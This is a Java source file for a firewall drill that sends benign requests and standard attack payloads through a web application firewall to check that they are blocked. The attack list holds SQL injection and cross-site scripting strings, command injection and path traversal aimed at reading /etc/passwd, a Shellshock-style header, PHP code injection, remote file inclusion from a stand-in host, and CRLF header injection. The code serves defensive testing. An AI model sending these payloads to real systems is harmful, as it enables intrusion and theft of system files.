package casemate.edge;

import casemate.base.Json;
import casemate.promise.Cadence;
import casemate.promise.EdgePromise.AttackClass;
import casemate.promise.Finding;
import casemate.wire.Route;
import casemate.wire.RouteRules;
import casemate.wire.Shield;
import java.io.IOException;
import java.net.InetAddress;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Optional;
import java.util.Set;
import java.util.TreeSet;
import java.util.function.Supplier;
import java.util.random.RandomGenerator;

/// EDG-4, the firewall: sends one attack of every class in every place where applications look for arguments, and
/// honest requests that look like them. Attacks an application of its own, and a real instance with what harms none.
final class InjectionDrill extends EdgeDrill {
    private static final int FORBIDDEN = 403;
    private static final int FIRST_FAILURE = 500;
    private static final String SQL = "1%27%20OR%20%271%27%3D%271%27%20--%20-";
    private static final String SCRIPT = "%3Cscript%3Ealert(1)%3C%2Fscript%3E";
    private static final String FORM = "application/x-www-form-urlencoded";
    private static final String JSON = "application/json";
    /// What browsers say of themselves; rules count against those who say nothing.
    private static final String BROWSER = "User-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\nAccept: */*\r\n";

    /// A request of one kind; its body may be empty.
    private record Sent(String method, String path, String fields, String body) {
        static Sent query(String query) {
            return new Sent("GET", "/?" + query, BROWSER, "");
        }

        static Sent with(String fields) {
            return new Sent("GET", "/", fields, "");
        }

        static Sent body(String type, String body) {
            return new Sent("POST", "/", BROWSER + "Content-Type: " + type + "\r\n", body);
        }
    }

    private record Attack(AttackClass of, Sent sent) {}

    private static final List<Attack> ATTACKS = List.of(
            new Attack(AttackClass.SQL_INJECTION, Sent.query("id=" + SQL)),
            new Attack(AttackClass.SQL_INJECTION, Sent.body(FORM, "id=" + SQL)),
            new Attack(AttackClass.SQL_INJECTION, Sent.body(JSON, "{\"id\":\"1' OR '1'='1' -- -\"}")),
            new Attack(AttackClass.SQL_INJECTION, Sent.with(BROWSER + "Cookie: id=1' OR '1'='1' -- -\r\n")),
            new Attack(AttackClass.CROSS_SITE_SCRIPTING, Sent.query("q=" + SCRIPT)),
            new Attack(AttackClass.CROSS_SITE_SCRIPTING, Sent.body(FORM, "q=" + SCRIPT)),
            new Attack(AttackClass.CROSS_SITE_SCRIPTING, Sent.body(JSON, "{\"q\":\"<script>alert(1)</script>\"}")),
            new Attack(
                    AttackClass.CROSS_SITE_SCRIPTING,
                    Sent.with("User-Agent: <script>alert(1)</script>\r\nAccept: */*\r\n")),
            new Attack(AttackClass.COMMAND_INJECTION, Sent.query("host=localhost%3Bcat%20%2Fetc%2Fpasswd")),
            new Attack(AttackClass.COMMAND_INJECTION, Sent.body(FORM, "host=localhost%3Bcat%20%2Fetc%2Fpasswd")),
            new Attack(
                    AttackClass.COMMAND_INJECTION,
                    Sent.with("User-Agent: () { :;}; /bin/cat /etc/passwd\r\nAccept: */*\r\n")),
            new Attack(AttackClass.CODE_INJECTION, Sent.query("x=%3C%3Fphp%20system(%27id%27)%3B%3F%3E")),
            new Attack(AttackClass.CODE_INJECTION, Sent.body(FORM, "x=%3C%3Fphp%20system(%27id%27)%3B%3F%3E")),
            new Attack(AttackClass.FILE_INCLUSION, Sent.query("page=http%3A%2F%2F203.0.113.7%2Fshell.txt%3F")),
            new Attack(AttackClass.PATH_TRAVERSAL, Sent.query("file=..%2F..%2F..%2F..%2Fetc%2Fpasswd")),
            new Attack(AttackClass.PATH_TRAVERSAL, Sent.body(JSON, "{\"file\":\"../../../../etc/passwd\"}")),
            new Attack(AttackClass.SESSION_FIXATION, Sent.query("PHPSESSID=0123456789abcdef")),
            new Attack(AttackClass.PROTOCOL_ABUSE, Sent.query("lang=en%0d%0aSet-Cookie%3A%20a%3Db")));

    private static final List<Sent> HONEST = List.of(
            Sent.query("name=O%27Brien"),
            Sent.query("q=select+a+colour+from+the+table"),
            Sent.body(FORM, "comment=Drop+by+at+noon%3B+bring+%22both%22+lists+%26+a+pen."),
            Sent.body(JSON, "{\"title\":\"Minutes\",\"people\":[\"Ann\",\"O'Brien\"],\"total\":12.5}"),
            Sent.with(BROWSER + "Cookie: theme=dark; width=1280\r\n"));

    private final RandomGenerator chance;

    /// @param real the edge with a name that it serves now, or empty while it serves none
    InjectionDrill(Supplier<Optional<EdgeTarget>> real, RandomGenerator chance) {
        super(
                outside(
                        Inspections.PROMISE,
                        "injection-stopped",
                        new Cadence(Duration.ofHours(6), Duration.ofHours(13))),
                real);
        this.chance = chance;
    }

    @Override
    public Finding attempt(EdgeTarget target) {
        Set<String> through = new TreeSet<>();
        Json.Builder measured = Json.object();
        try (StandIn application = StandIn.open("here");
                EdgeTarget lent = target.lend(List.of(application.upstream()), RouteRules.USUAL, chance)) {
            for (Sent honest : HONEST) {
                int before = application.served();
                if (send(lent, honest) >= FORBIDDEN || application.served() == before) {
                    return new Finding.Unproved("An honest request was not served, so a refusal proves nothing.");
                }
            }
            for (Attack attack : ATTACKS) {
                int before = application.served();
                int status = send(lent, attack.sent);
                if (application.served() != before) {
                    through.add(word(attack.of));
                } else if (status != FORBIDDEN) {
                    return new Finding.Unproved("An attack was answered by something else than the firewall.");
                }
            }
            measured.put("honestRequestsServed", HONEST.size())
                    .put("attacksSent", ATTACKS.size())
                    .put("classesThatGotThrough", through.size());
            measured.put("instancesAttacked", instance(target, through));
        } catch (IOException _) {
            return new Finding.Unproved("The edge did not answer.");
        }
        return through.isEmpty()
                ? new Finding.Kept(measured.build())
                : new Finding.Broken(
                        measured.build(), "Attacks reached an application: " + String.join(", ", through) + ".");
    }

    /// Attacks one instance that answers everybody behind a firewall that blocks.
    ///
    /// @return how many were attacked: one, or none where there is none
    private int instance(EdgeTarget target, Set<String> through) throws IOException {
        List<Route> open = new ArrayList<>(target.routes().all().stream()
                .filter(route -> route.instance().isPresent()
                        && route.state() == Route.State.SERVING
                        && route.rules().access().isEmpty()
                        && !route.rules().underAttack()
                        && route.rules().listener().isEmpty()
                        && route.rules().shield().mode() == Shield.Mode.BLOCK)
                .toList());
        if (open.isEmpty()) {
            return 0;
        }
        EdgeTarget instance = target.at(open.get(chance.nextInt(open.size())).host());
        int honest = send(instance, Sent.query("casemate=drill"));
        if (honest == FORBIDDEN || honest >= FIRST_FAILURE) {
            return 0;
        }
        if (send(instance, Sent.query("casemate=" + SQL)) != FORBIDDEN) {
            through.add(word(AttackClass.SQL_INJECTION));
        }
        if (send(instance, Sent.query("casemate=" + SCRIPT)) != FORBIDDEN) {
            through.add(word(AttackClass.CROSS_SITE_SCRIPTING));
        }
        return 1;
    }

    /// Each from an address of its own: one that attacks twice is soon banned, which proves nothing about the firewall.
    private int send(EdgeTarget to, Sent sent) throws IOException {
        byte[] body = sent.body.getBytes(StandardCharsets.UTF_8);
        String length = body.length == 0 ? "" : "Content-Length: " + body.length + "\r\n";
        try (Caller caller = Caller.open(to, somewhere(), "http/1.1")) {
            return caller.ask(sent.method, sent.path, sent.fields + length + "Connection: close\r\n", body)
                    .status();
        }
    }

    /// Some address of this machine that nobody else uses: all of 127.0.0.0/8 is one.
    private InetAddress somewhere() {
        return InetAddress.ofLiteral(
                "127." + chance.nextInt(1, 255) + "." + chance.nextInt(256) + "." + chance.nextInt(1, 255));
    }

    private static String word(AttackClass of) {
        return of.name().toLowerCase(Locale.ROOT).replace('_', '-');
    }
}
